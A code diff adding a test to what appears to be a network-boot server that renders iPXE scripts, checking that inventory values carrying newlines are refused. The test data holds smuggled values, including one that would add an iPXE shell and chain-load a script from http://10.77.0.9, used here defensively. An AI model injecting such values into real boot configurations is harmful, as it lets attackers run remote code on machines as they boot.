@@ -8,7 +8,7 @@ import { buildApp } from '../src/http/app.js';
 import { DISK_WRITTEN_UNIT_NAME } from '../src/ignition/render.js';
 import { createBootDecision } from '../src/inventory/decision.js';
 import { requireTools } from './helpers/netns.js';
-import { bootFixture, fixtureApp } from './ignition/boot-fixture.js';
+import { BASE_YAML, bootFixture, fixtureApp } from './ignition/boot-fixture.js';
 
 const execFileAsync = promisify(execFile);
 const NODE1 = '52:54:00:12:34:56' as Mac;
@@ -291,6 +291,35 @@ machines:
   t.match(response.body, /echo rackboot: cannot boot 52:54:00:12:34:56: .*rackboot fetch coreos/);
   t.notMatch(response.body, /\$\{(?!platform)/, 'no text iPXE would expand');
   t.match(fixture.events, [{ type: 'ipxe-script', detail: { script: 'unavailable' } }]);
+});
+
+t.test('a var or value that would split the kernel line or add iPXE commands is refused', async (t) => {
+  const yaml = BASE_YAML.replace('"role={{vars.role}}"', '"role={{vars.role}}", "tier={{vars.tier}}"')
+    .replace(
+      'vars: { role: storage }',
+      'vars: { role: storage, tier: "w\\nshell\\nchain http://10.77.0.9/x" }',
+    )
+    .replace('install_device: /dev/vda', 'install_device: "/dev/vda quiet"');
+  const fixture = await bootFixture({ yaml });
+  const app = await fixtureApp(fixture);
+  t.teardown(async () => {
+    await app.close();
+    await fixture.cleanup();
+  });
+  for (const [mac, word] of [
+    ['52-54-00-12-34-57', 'tier=w\\nshell\\nchain http://10.77.0.9/x'],
+    ['52-54-00-12-34-58', 'coreos.inst.install_dev=/dev/vda quiet'],
+  ] as const) {
+    const body = (await app.inject(`/boot/${mac}.ipxe`)).body;
+    t.notMatch(body, /^(shell|chain|kernel)/m, `${mac}: no command of its own, no kernel line`);
+    t.match(body, `holds whitespace or a control character`, `${mac}: the console says why`);
+    t.ok(body.includes(word), `${mac}: and names the word (quotes left out on the console)`);
+  }
+  t.match(
+    (await app.inject('/boot/52-54-00-12-34-56.ipxe')).body,
+    /^kernel /m,
+    'the other machines still boot',
+  );
 });
 
 t.test('malformed script requests', async (t) => {
